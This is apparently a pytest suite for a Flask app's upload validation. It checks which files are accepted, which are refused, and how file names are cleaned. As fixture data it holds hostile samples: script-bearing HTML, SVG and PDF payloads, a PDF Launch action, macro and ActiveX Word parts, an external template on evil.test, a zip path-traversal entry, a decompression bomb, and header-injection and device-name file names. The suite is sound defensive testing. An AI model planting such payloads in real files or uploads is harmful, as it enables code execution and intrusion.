"""What is taken and what is not: by extension and by content, and never a crash."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask

from casework.errors import RuleViolation
from casework.files.receiving import arriving, clean_name, receive
from tests.files.hostile_files import HOSTILE
from tests.files.samples import (
    Upload,
    changed_part,
    docx,
    pdf,
    picture,
    with_part,
    xlsx,
    zip_of,
)

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
BOMB = with_part(docx(), "word/media/zeros.png", b"\0" * 40_000_000)


@pytest.fixture
def here(app: Flask, tmp_path: Path) -> Iterator[Path]:
    """A folder of its own for what arrives, and a limit of one megabyte."""
    before = app.config["DATA_DIR"], app.config["UPLOAD_LIMIT_MB"]
    app.config["DATA_DIR"], app.config["UPLOAD_LIMIT_MB"] = str(tmp_path), 1
    with app.test_request_context():
        yield tmp_path
    app.config["DATA_DIR"], app.config["UPLOAD_LIMIT_MB"] = before


TAKEN = {
    "report.pdf": pdf(),
    "photo.jpg": picture("JPEG"),
    "photo.JPEG": picture("JPEG"),
    "photo.png": picture("PNG"),
    "photo.webp": picture("WEBP"),
    "ledger.docx": docx(),
    "ledger.xlsx": xlsx(),
    "notes.txt": "压力表 11 只，已送检 8 只。".encode(),
    "notes-gb.txt": "压力表 11 只".encode("gb18030"),
    "values.csv": "\ufeff炉次,温度\n1,1520\n".encode(),
}


@pytest.mark.parametrize("name", TAKEN)
def test_ordinary_files_are_taken_with_checksum_and_type(here: Path, name: str) -> None:
    with arriving([Upload(name, TAKEN[name])]) as arrivals:
        assert not arrivals.refusals
        received = arrivals.received[0]
        assert received.path.read_bytes() == TAKEN[name]
        assert (received.size_bytes, len(received.sha256)) == (len(TAKEN[name]), 64)


REFUSED = {
    "an unknown extension": ("virus.exe", b"MZ\x90\0"),
    "no extension": ("README", b"text"),
    "a hidden second extension": ("photo.jpg.exe", picture()),
    "an empty file": ("photo.jpg", b""),
    "old Word": ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "an archive": ("all.zip", zip_of(a=b"1")),
    "an iPhone picture": ("IMG_1.heic", b"\0\0\0\x18ftypheic"),
    "a program called a picture": ("photo.jpg", b"MZ\x90\0" + b"\0" * 300),
    "a web page called a picture": ("photo.png", HTML),
    "a web page called a PDF": ("report.pdf", HTML),
    "a web page called text": ("notes.txt", HTML),
    "a drawing with script called text": ("notes.txt", SVG),
    "a drawing with script called a picture": ("photo.webp", SVG),
    "markup with a byte order mark": ("notes.csv", b"\xef\xbb\xbf<table>"),
    "binary called text": ("notes.txt", b"abc\0def"),
    "broken encoding called text": ("notes.txt", b"\xff\xff\xff\xff"),
    "a PNG called JPEG": ("photo.jpg", picture("PNG")),
    "half a picture": ("photo.jpg", picture()[:200]),
    "half a PNG": ("photo.png", picture("PNG", (400, 400))[:150]),
    "a picture with script in it": ("photo.jpg", picture() + b"<script>alert(1)</script>"),
    "a picture that is an archive too": ("photo.jpg", picture() + zip_of(a=b"1")),
    "a PDF that begins with something else": ("report.pdf", b"MZ" + pdf()),
    "half a PDF": ("report.pdf", pdf()[:40]),
    "a PDF with script": ("report.pdf", pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")),
    "a PDF that starts a program": ("report.pdf", pdf(b"<</S/Launch/F(calc.exe)>>")),
    "a PDF that is an archive too": ("report.pdf", pdf() + zip_of(a=b"1")),
    "a Word file called Excel": ("ledger.xlsx", docx()),
    "an Excel file called Word": ("ledger.docx", xlsx()),
    "an archive called Word": ("ledger.docx", zip_of(a=b"1")),
    "half a Word file": ("ledger.docx", docx()[:2000]),
    "nothing but a head": ("ledger.docx", b"PK\x03\x04"),
    "a Word file with macros": ("ledger.docx", with_part(docx(), "word/vbaProject.bin", b"macro")),
    "a Word file with a control": ("ledger.docx", with_part(docx(), "word/activeX/activeX1.xml", b"<x/>")),
    "a Word file with a program": ("ledger.docx", with_part(docx(), "word/embeddings/oleObject1.bin", b"x")),
    "a macro workbook by its type": (
        "ledger.xlsx",
        changed_part(
            xlsx(),
            "[Content_Types].xml",
            b"spreadsheetml.sheet.main+xml",
            b"ms-excel.sheet.macroEnabled.main+xml",
        ),
    ),
    "a Word file with a foreign template": (
        "ledger.docx",
        with_part(
            docx(),
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship TargetMode="External" Type="http://x/attachedTemplate"'
            b' Target="http://evil.test/a.dotm"/></Relationships>',
        ),
    ),
    "a Word file with a path that leaves it": ("ledger.docx", with_part(docx(), "../../etc/passwd", b"x")),
    "a Word file with something in front": ("ledger.docx", b"#!/bin/sh\n" + docx()),
    "a Word file with something behind": ("ledger.docx", docx() + b"<script>"),
    "a Word file that unpacks to 40 MB": ("ledger.docx", BOMB),
    "more than the limit": ("notes.txt", b"a" * 1_100_000),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_whatever_means_harm_is_refused_with_a_reason(here: Path, case: str) -> None:
    name, content = HOSTILE[case]
    app_limit = 1024 * 1024
    with pytest.raises(RuleViolation) as refused:
        receive(Upload(name, content))
    assert "太大" not in str(refused.value) or len(content) > app_limit
    assert not list((here / "files" / "incoming").glob("*"))


@pytest.mark.parametrize("case", REFUSED)
def test_dangerous_and_broken_files_are_refused_with_name_reason_and_what_is_allowed(
    here: Path, case: str
) -> None:
    name, content = REFUSED[case]
    with pytest.raises(RuleViolation) as refused:
        receive(Upload(name, content))
    assert name in str(refused.value)
    assert "docx" in str(refused.value)
    assert refused.value.field == "files"
    assert not list((here / "files" / "incoming").glob("*")), "a refused file leaves nothing behind"


def test_a_bad_file_does_not_keep_the_good_ones_out(here: Path) -> None:
    uploads = [Upload("a.jpg", picture()), Upload("b.exe", b"MZ"), Upload("", b""), Upload("c.pdf", pdf())]
    with arriving(uploads) as arrivals:
        assert [received.file_name for received in arrivals.received] == ["a.jpg", "c.pdf"]
        assert len(arrivals.refusals) == 1
    assert not list((here / "files" / "incoming").glob("*")), "what was not stored is deleted"


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("C:\\Users\\zhao\\证书.pdf", "证书.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("photo\u202egpj.exe", "photogpj.exe"),
        ("a\x00b\n.pdf", "ab.pdf"),
        ("  . ", "file"),
        ("证\"书'<1>|?*.pdf", "证_书'_1____.pdf"),
        ("a;\u2028b\r\nSet-Cookie: x.pdf", "a;bSet-Cookie_ x.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("com1.tar.pdf", "_com1.tar.pdf"),
        ("LPT².txt", "_LPT².txt"),
        ("concert.pdf", "concert.pdf"),
        ("报告\u3000 \xa0终稿.docx", "报告 终稿.docx"),
        ("...hidden.pdf", "hidden.pdf"),
        ("a.pdf::$DATA", "a.pdf__$DATA"),
        ("\ufeff\u200b证书.pdf", "证书.pdf"),
        ("长" * 300 + ".pdf", "长" * 146 + ".pdf"),
    ],
)
def test_names_lose_paths_control_and_direction_characters(given_name: str, kept: str) -> None:
    assert clean_name(given_name) == kept
